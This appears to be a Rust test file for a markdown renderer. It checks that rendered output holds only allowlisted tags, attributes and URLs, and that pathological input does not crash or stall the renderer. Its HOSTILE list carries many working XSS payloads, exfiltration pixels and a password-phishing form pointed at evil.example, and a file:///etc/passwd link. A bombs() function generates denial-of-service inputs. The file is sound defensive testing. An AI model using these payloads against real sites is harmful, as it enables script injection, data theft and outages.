//! Nothing that is written in a message runs, loads, styles, navigates by itself or brings the server down.

use scraper::{Html, Node};
use stoa::markdown::{BlockRenderer, render};

const TAGS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

const ATTRIBUTES: &[&str] =
    &["align", "class", "data-lang", "href", "id", "open", "rel", "start", "tabindex", "title"];

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif?secret\">",
    "<img src=x:x onerror\n=\nalert(1)>",
    "![x](https://evil.example/pixel.gif?secret)",
    "![x](javascript:alert(1))",
    "![x](https://a.example/\"onerror=\"alert(1))",
    "![\" onload=alert(1) x=\"](https://a.example/)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">over everything</p>",
    "<b style=\"background:url(https://evil.example)\">x</b>",
    "<div id=\"composer\" class=\"button main\">x</div>",
    "<a id=\"config\" name=\"csrf\" href=\"https://a.example\">clobber</a>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details\nopen\nontoggle=alert(1)>",
    "<sub onmouseover=alert(1)>x</sub>",
    "<xss contenteditable onbeforeinput=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<select><option><iframe></select><script>alert(1)</script>",
    "<table background=\"javascript:alert(1)\"><tr><td>x",
    "<plaintext><b>x",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<b><script>alert(1)</script></b>",
    "<summary><form action=x></summary>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\u{1}script:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](#composer)",
    "[x](?next=/)",
    "[x](https://a.example \"t\\\" onclick=alert(1) x=\\\"\")",
    "[x](https://a.example/\" onclick=\"alert(1))",
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/\"onmouseover=alert(1)//>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "www.a.example/<script>alert(1)</script>",
    "ftp://a.example/",
    "[a](https://a.example/[b](javascript:alert(1)))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "``` \"><script>alert(1)</script>\ncode\n```",
    "```rust\" onclick=\"alert(1)\ncode\n```",
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</span></code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "[^\"><script>]: x\n\n[^\"><script>]",
    "a[^x]\n\n[^x]: <script>alert(1)</script> [y](javascript:alert(1))",
    "| <script>alert(1)</script> | b |\n|--|--|\n| </table><img src=x onerror=alert(1)> | 2 |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}gpj.exe",
    "a\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

fn assert_harmless(source: &str, html: &str) {
    let page = Html::parse_fragment(html);
    for node in page.tree.nodes() {
        match node.value() {
            Node::Element(element) if ["html", "body"].contains(&element.name()) => {}
            Node::Element(element) => {
                assert!(TAGS.contains(&element.name()), "<{}> from {source:?} in {html}", element.name());
                for (name, value) in element.attrs() {
                    assert!(ATTRIBUTES.contains(&name), "{name}={value:?} from {source:?} in {html}");
                    let is_safe = match name {
                        "href" => ["http://", "https://", "mailto:", "#fn-"]
                            .iter()
                            .any(|safe| value.starts_with(safe)),
                        "id" => value.starts_with("fn-"),
                        _ => true,
                    };
                    assert!(is_safe, "{name}={value:?} from {source:?} in {html}");
                }
            }
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                panic!("{source:?}: {html}")
            }
            Node::Text(text) => assert!(!text.contains(['\0', '\u{202e}']), "{source:?}: {html}"),
            Node::Document | Node::Fragment => {}
        }
    }
    let again = page.root_element().inner_html();
    let twice = Html::parse_fragment(&again).root_element().inner_html();
    assert_eq!(again, twice, "{source:?} changes when it is read again");
}

#[test]
fn every_classic_is_harmless_alone() {
    for source in HOSTILE {
        assert_harmless(source, &render(source));
    }
}

#[test]
fn every_classic_is_harmless_wherever_it_stands() {
    for source in HOSTILE {
        for wrapped in [
            format!("text {source} text"),
            format!("> {source}"),
            format!("- {source}\n\n  {source}"),
            format!("*{source}*"),
            format!("[{source}](https://a.example)"),
            format!("![{source}](https://a.example)"),
            format!("<details>\n<summary>{source}</summary>\n\n{source}\n\n</details>"),
            format!("<b>{source}"),
            format!("| {source} |\n|--|\n| {source} |"),
            format!("# {source}"),
            format!("a[^1]\n\n[^1]: {source}"),
        ] {
            assert_harmless(&wrapped, &render(&wrapped));
        }
    }
}

#[test]
fn every_pair_of_classics_is_harmless() {
    for first in HOSTILE {
        for second in HOSTILE {
            let source = format!("{first}{second}");
            assert_harmless(&source, &render(&source));
        }
    }
}

#[test]
fn every_classic_is_harmless_at_every_moment_of_its_arrival() {
    for source in HOSTILE {
        let mut renderer = BlockRenderer::new();
        for c in source.chars() {
            renderer.push(c.encode_utf8(&mut [0; 4]));
            for block in renderer.changed() {
                assert_harmless(source, &block.html);
            }
        }
        for block in renderer.finish() {
            assert_harmless(source, &block.html);
        }
    }
}

/// Texts that make careless renderers overflow the stack, or take time that grows with the square of their length.
pub fn bombs(size: usize) -> Vec<(&'static str, String)> {
    let fill = |unit: &str| unit.repeat(size / unit.len());
    let half = |first: &str, second: &str| {
        first.repeat(size / 2 / first.len()) + &second.repeat(size / 2 / second.len())
    };
    vec![
        (">", fill(">")),
        ("> per line", fill(">\n")),
        ("lazy quotation", fill("> ")[..size / 2].to_owned() + "\n" + &"a\n".repeat(size / 4)),
        ("quotation in list", fill("- > ")),
        ("[", fill("[")),
        ("![", fill("![")),
        ("]", fill("]")),
        ("[a](", fill("[a](")),
        ("[[]()", fill("[a](b")),
        ("nested images", half("![", "](x)")),
        ("nested links", half("[", "](https://a.example)")),
        ("*", fill("*")),
        ("_", fill("_")),
        ("~", fill("~")),
        ("`", fill("`")),
        (
            "ticks of all lengths",
            (1..)
                .map(|n| "`".repeat(n) + " ")
                .scan(0, |sum, ticks| {
                    *sum += ticks.len();
                    (*sum < size).then_some(ticks)
                })
                .collect(),
        ),
        ("*a _", fill("*a _b ")),
        ("**a", fill("**a ")),
        ("nested emphasis", half("*a ", " b*")),
        ("nested strong", half("**a ", " b**")),
        ("mixed emphasis", half("*a **a ", "b** b*")),
        ("<", fill("<")),
        ("</", fill("</")),
        ("<b>", fill("<b>")),
        ("<sub> in lines", fill("<sub>\n")),
        ("<details>", fill("<details>\n\n")),
        ("<details> in one block", fill("<details>")),
        ("<!--", fill("<!--")),
        ("<!-- in lines", fill("<!--\n\n")),
        ("<?", fill("a <?")),
        ("<!A", fill("a <!A ")),
        ("<![CDATA[", fill("a <![CDATA[")),
        ("<a", fill("<a b=\"")),
        ("&", fill("&")),
        ("&#", fill("&#1")),
        ("entities", fill("&amp;")),
        ("-", fill("-")),
        ("- ", fill("- ")),
        ("-\n", fill("-\n")),
        ("1. ", fill("1. ")),
        (
            "growing list",
            (0..)
                .map(|n| " ".repeat(n * 2) + "- a\n")
                .scan(0, |sum, line| {
                    *sum += line.len();
                    (*sum < size).then_some(line)
                })
                .collect(),
        ),
        ("#", fill("#")),
        ("# lines", fill("# a\n")),
        ("|", fill("|")),
        ("| table", "|".repeat(1000) + "\n" + &"|-".repeat(1000) + "|\n" + &fill("a\n")),
        (
            "wide table",
            format!("{}|\n{}|\n{}|\n", "|a".repeat(size / 6), "|-".repeat(size / 6), "|a".repeat(size / 6)),
        ),
        ("table of pipes", "|a|\n|-|\n".to_owned() + &fill("|x|\n")),
        ("\\", fill("\\")),
        ("spaces", fill(" ")),
        ("tabs", fill("\t")),
        ("newlines", fill("\n")),
        ("carriage returns", fill("\r")),
        ("one word", fill("a")),
        ("paragraphs", fill("a\n\n")),
        ("references", fill("[a]: b\n\n")),
        (
            "references used",
            fill("[a]: https://a.example/b\n\n")[..size / 2].to_owned() + &"[a] ".repeat(size / 8),
        ),
        (
            "long references",
            "[a]: https://a.example/".to_owned() + &"b".repeat(size / 2) + "\n\n" + &"[a] ".repeat(size / 8),
        ),
        ("footnotes", fill("[^a]\n\n[^a]: b\n\n")),
        ("many footnotes", (0..size / 24).map(|n| format!("[^{n}]\n\n[^{n}]: b\n\n")).collect()),
        ("footnote in itself", fill("[^a]: [^a]\n\n")),
        ("addresses", fill("www.a.b ")),
        ("https://", fill("https://")),
        ("@", fill("a@a.")),
        ("www.(((", "www.a.b".to_owned() + &fill("(")),
        ("fences", fill("```\n")),
        ("fences of languages", fill("```js\nx\n```\n")),
        ("code", "```rust\n".to_owned() + &fill("fn a() {}\n")),
        ("code blocks", fill(&format!("```rust\n{}```\n\n", "fn a() { \"x\" }\n".repeat(400)))),
        ("long lines of code", "```js\n".to_owned() + &fill("a=[{(")),
        ("nested code", "```js\n".to_owned() + &"[{(\n".repeat(60 * 1024 / 4)),
        ("regex bait", "```js\n".to_owned() + &("/".to_owned() + &"(a".repeat(900) + "\n").repeat(30)),
        ("string bait", "```python\n".to_owned() + &("f\"".to_owned() + &"{".repeat(1900) + "\n").repeat(30)),
        ("html bait", "```html\n".to_owned() + &("<a ".repeat(600) + "\n").repeat(30)),
        ("markdown bait", "```markdown\n".to_owned() + &("*a _".repeat(400) + "\n").repeat(30)),
        ("latex bait", "```latex\n".to_owned() + &("\\a{$".repeat(400) + "\n").repeat(30)),
        ("php bait", "```php\n".to_owned() + &("<?php \"{$a[".repeat(150) + "\n").repeat(30)),
        ("ruby bait", "```ruby\n".to_owned() + &("%w{#{<<~A ".repeat(150) + "\n").repeat(30)),
        ("c bait", "```cpp\n".to_owned() + &("a<b<(".repeat(350) + "\n").repeat(30)),
        ("java bait", "```java\n".to_owned() + &("a.b.c<d ".repeat(230) + "\n").repeat(30)),
        ("nul", fill("\0")),
        ("marks", fill("\u{feff}")),
        ("overrides", fill("\u{202e}")),
        ("combining", fill("e\u{301}\u{302}")),
        ("emoji", fill("👩‍👩‍👧‍👦")),
        ("chinese emphasis", fill("**中文：**后")),
        ("indented", fill("    a\n")),
        ("setext", fill("a\n=\n")),
    ]
}

#[test]
fn no_text_overflows_the_stack() {
    for (name, bomb) in bombs(100_000) {
        let html = render(&bomb);
        assert!(html.len() < 20 * bomb.len() + 1024, "{name} became {} bytes", html.len());
    }
}

#[test]
fn no_text_overflows_the_stack_while_it_arrives() {
    for (_, bomb) in bombs(8_000) {
        let mut renderer = BlockRenderer::new();
        let mut rest = bomb.as_str();
        while !rest.is_empty() {
            let (piece, after) =
                rest.split_at(rest.floor_char_boundary(997.min(rest.len()).max(4.min(rest.len()))));
            renderer.push(piece);
            renderer.changed();
            rest = after;
        }
        renderer.finish();
    }
}
